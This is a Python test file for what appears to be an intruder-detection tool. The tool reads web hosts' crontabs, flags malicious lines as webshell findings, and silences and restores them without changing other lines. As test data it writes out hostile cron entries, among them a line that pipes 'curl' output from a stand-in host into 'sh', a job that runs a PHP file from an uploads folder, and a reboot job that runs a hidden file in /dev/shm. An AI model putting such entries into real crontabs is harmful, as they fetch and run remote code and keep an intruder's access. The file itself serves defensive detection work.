"""Lines of a timetable are judged one by one; what is taken out comes back as it was; nobody else's line is touched."""

from __future__ import annotations

from collections.abc import Mapping
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from playbooks.findings import TargetError
from playbooks.hosting.intruders import timetable
from playbooks.hosting.intruders.marks import marks
from playbooks.hosting.intruders.timetable import Timetables

GOOD, BAD = "0 3 * * * php artisan schedule:run", "* * * * * curl -s http://a.invalid/x | sh"
FILE = "/etc/cron.d/php-sesi"
LINES = st.lists(st.sampled_from([GOOD, BAD, f"# {BAD}", "", "MAILTO=tik@lab.test", " * * * * * \udcff"]), max_size=8)


@pytest.mark.parametrize(
    ("line", "bad"),
    [
        ("* * * * * root curl -s http://a.invalid/x | sh", True),
        ("*/5 * * * * php /srv/pelihara/portal/shared/wp-content/uploads/a.php", True),
        ("@reboot root /dev/shm/.x", True),
        ("# * * * * * root curl -s http://a.invalid/x | sh", False),
        ("17 * * * * root cd / && run-parts --report /etc/cron.hourly", False),
        ("09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean", False),
        ("* * * * * deploy php /srv/pelihara/portal/current/artisan schedule:run >> /dev/null 2>&1", False),
    ],
)
def test_a_timetable_is_judged_line_by_line(line: str, bad: bool) -> None:
    told = [*timetable.judge(Timetables({"www-data": f"{GOOD}\n{line}\n"}), marks(), "web-1")]
    expected = [("files.webshell", "jadwal (cron) www-data")] if bad else []
    assert [(each.code, each.subject) for each in told] == expected


def test_a_line_of_a_user_can_be_taken_out_and_one_of_root_has_a_runbook() -> None:
    tables = Timetables({"www-data": f"{GOOD}\n{BAD}\n{BAD}\n", FILE: f"{BAD}\n"})
    assert timetable.silenceable(tables, marks()) == {"www-data": [BAD]}
    of_user, of_root = timetable.judge(tables, marks(), "web-1")
    assert "website clean" in of_user.advice
    assert f"dpkg -S {FILE}" in of_root.advice
    assert "root di web-1" in of_root.advice


def test_a_timetable_with_a_bad_line_is_evidence_as_a_whole_and_others_are_not() -> None:
    tables = Timetables({"deploy": f"{GOOD}\n", "www-data": f"{GOOD}\n{BAD}\n", FILE: f"{BAD}\n"})
    kept = {(each.path, each.owner): each.data for each in timetable.copies(tables, marks())}
    assert kept == {
        ("jadwal (cron) www-data", "www-data"): f"{GOOD}\n{BAD}\n".encode(),
        (f"jadwal (cron) {FILE}", "root"): f"{BAD}\n".encode(),
    }


class Crontabs:
    """A host whose crontabs are texts; what is written stands in `texts`."""

    name = "web-1"

    def __init__(self, texts: Mapping[str, str]) -> None:
        self.texts = dict(texts)

    def replace(self, _site: Any, _shell: Any, _name: str, user: str, old: str, new: str) -> None:
        assert self.texts[user] == old
        self.texts[user] = new


@pytest.fixture
def crontabs(monkeypatch: pytest.MonkeyPatch) -> Crontabs:
    host = Crontabs({})
    monkeypatch.setattr(timetable, "read", lambda *_: Timetables(host.texts))
    monkeypatch.setattr(timetable, "_replace", host.replace)
    return host


@pytest.mark.parametrize("other", ["", "30 2 * * * backup", f"# {BAD}"])
def test_what_is_taken_out_comes_back_whatever_was_written_since(crontabs: Crontabs, other: str) -> None:
    jobs, about = {"www-data": [BAD]}, (SimpleNamespace(), SimpleNamespace(), "0123456789ab")
    crontabs.texts = {"www-data": f"{GOOD}\n{BAD}\n", "deploy": f"{BAD}\n"}
    timetable.silence(*about, jobs)
    assert timetable.silenceable(Timetables(crontabs.texts), marks()) == {"deploy": [BAD]}
    crontabs.texts["www-data"] += other
    timetable.wake(*about, jobs)
    assert crontabs.texts == {"www-data": f"{GOOD}\n{BAD}\n{other}", "deploy": f"{BAD}\n"}


@given(LINES)
def test_silencing_then_waking_changes_no_byte(lines: list[str]) -> None:
    host, about = Crontabs({"www-data": "\n".join(lines)}), (SimpleNamespace(), SimpleNamespace(), "0123456789ab")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(timetable, "read", lambda *_: Timetables(host.texts))
        patch.setattr(timetable, "_replace", host.replace)
        timetable.silence(*about, {"www-data": [BAD]})
        assert BAD not in host.texts["www-data"].split("\n")
        timetable.wake(*about, {"www-data": [BAD]})
    assert host.texts["www-data"] == "\n".join(lines)


def told(*records: bytes, end: bytes = b"e\0") -> bytes:
    return b"".join(record + b"\0" for record in records) + end


def test_a_timetable_that_a_host_does_not_show_is_a_gap() -> None:
    parsed = timetable.parse(told(b"deploy", b"x\n", b"!www-data", b""), "web-1")
    assert parsed.texts == {"deploy": "x\n"}
    (gap,) = parsed.gaps
    assert gap.startswith("jadwal (crontab) milik www-data tidak terbaca")


@given(st.binary(max_size=80))
def test_whatever_a_host_says_is_parsed_or_refused(data: bytes) -> None:
    if data.count(b"\0") % 2 and (data == b"e\0" or data.endswith(b"\0e\0")):
        timetable.parse(data, "web-1")
    else:
        with pytest.raises(TargetError, match="terpotong"):
            timetable.parse(data, "web-1")
